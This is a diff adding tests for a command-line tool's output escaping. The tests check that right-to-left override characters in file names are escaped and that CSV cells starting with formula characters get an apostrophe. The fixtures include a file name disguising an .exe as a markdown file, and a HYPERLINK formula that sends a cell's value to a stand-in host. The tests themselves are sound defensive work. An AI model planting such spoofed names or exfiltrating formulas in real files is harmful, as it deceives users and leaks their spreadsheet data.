@@ -6,6 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import bundled from '../../pricing/pricing.json';
 import { markdownText, terminalSafe } from '../../src/core/format/terminalText';
+import { csvCell } from '../../src/core/report';
+import { printableName } from '../../src/cli/files';
 
 const root = join(__dirname, '..', '..', '..');
 const cli = join(root, 'dist', 'cli.js');
@@ -68,5 +70,57 @@ describe('names from a pricing file never reach the terminal raw (issue 13, item
   test('terminalSafe keeps CRLF, tab and text; markdownText turns line breaks into spaces', () => {
     assert.equal(terminalSafe('a\tb\r\nc\rd\u009b'), 'a\tb\r\nc\\u000dd\\u009b');
     assert.equal(markdownText('a\r\nb\u2028c_d'), 'a b c\\_d');
+  });
+});
+
+describe('file names and cells a tester builds to spoof the terminal or a spreadsheet', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'token-spend-names-'));
+  // Shows as "reportexe.md" with the override acting; and a formula a spreadsheet would run.
+  const rlo = 'report\u202Edm.exe';
+  const formula = '=HYPERLINK("x.test?"&A1,"x").md';
+  writeFileSync(join(dir, rlo), 'hello');
+  writeFileSync(join(dir, formula), 'hello');
+  const runFiles = (...args: string[]) =>
+    spawnSync(process.execPath, [cli, '--models', 'openai/gpt-4o', ...args], { cwd: dir, encoding: 'utf8', env: { ...process.env, LANG: 'C', LC_ALL: '' } });
+
+  test('a right-to-left override in a file name is shown as \\u202e in the table, CSV and JSON (before: sent raw)', () => {
+    for (const format of [[], ['--csv'], ['--json'], ['--markdown']]) {
+      const r = runFiles(rlo, formula, ...format);
+      assert.equal(r.status, 0, r.stderr);
+      assert.ok(!r.stdout.includes('\u202E'), `raw U+202E in ${format.join() || 'table'}`);
+      assert.ok(r.stdout.includes('report\\u202edm.exe'), format.join() || 'table');
+    }
+    // JSON stays valid and decodes to the real name.
+    assert.deepEqual(
+      JSON.parse(runFiles(rlo, formula, '--json').stdout).map((e: { file: string }) => e.file),
+      [rlo, formula],
+    );
+  });
+
+  test('terminalSafe and printableName escape bidirectional controls, and leave Arabic, Hebrew and Chinese alone', () => {
+    assert.equal(terminalSafe('a\u202Eb\u2066c\u2069d\u200Fe\u061C'), 'a\\u202eb\\u2066c\\u2069d\\u200fe\\u061c');
+    assert.equal(terminalSafe('مرحبا שלום 你好'), 'مرحبا שלום 你好');
+    assert.equal(printableName('x\u202Ey\nz'), 'x\\u202ey\\u000az');
+  });
+
+  test('--csv: a file name starting with = (or after spaces, or full-width ＝) gets an apostrophe; numbers stay numbers', () => {
+    const csv = runFiles(formula, rlo, '--csv').stdout;
+    const cells = csv
+      .split('\r\n')
+      .slice(1, -1)
+      .map((l) => l.slice(0, l.indexOf(',openai/')));
+    assert.ok(cells.length >= 2);
+    assert.ok(
+      cells.filter((c) => c.includes('HYPERLINK')).every((c) => c.startsWith(`"'`) || c.startsWith(`'`)),
+      cells.join('\n'),
+    );
+    assert.equal(csvCell(' =1+1'), "' =1+1");
+    assert.equal(csvCell('\n=1+1'), `"'\n=1+1"`);
+    assert.equal(csvCell('＝1+1'), "'＝1+1");
+    assert.equal(csvCell('\u3000@SUM(A1)'), "'\u3000@SUM(A1)");
+    assert.equal(csvCell('-x'), "'-x");
+    assert.equal(csvCell(-0.5), '-0.5');
+    assert.equal(csvCell('a=b'), 'a=b');
+    assert.equal(csvCell('openai/gpt-4o'), 'openai/gpt-4o');
   });
 });
